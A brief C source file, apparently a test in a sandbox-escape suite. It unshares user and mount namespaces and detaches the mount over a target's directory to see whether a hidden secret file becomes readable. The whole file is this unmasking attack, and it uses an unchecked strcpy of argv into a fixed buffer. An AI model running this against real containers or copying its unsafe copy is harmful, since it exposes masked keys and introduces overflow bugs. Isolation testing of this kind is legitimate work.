/* In namespaces of one's own the covers over the keys are taken off. */
#include "attack.h"
int main(int c, char **v) {
    char folder[4096];
    strcpy(folder, v[1]);
    *strrchr(folder, '/') = 0;
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) failed("unshare");
    if (umount2(folder, MNT_DETACH)) failed("umount");
    finish(has_secret(open(v[1], O_RDONLY)));
}
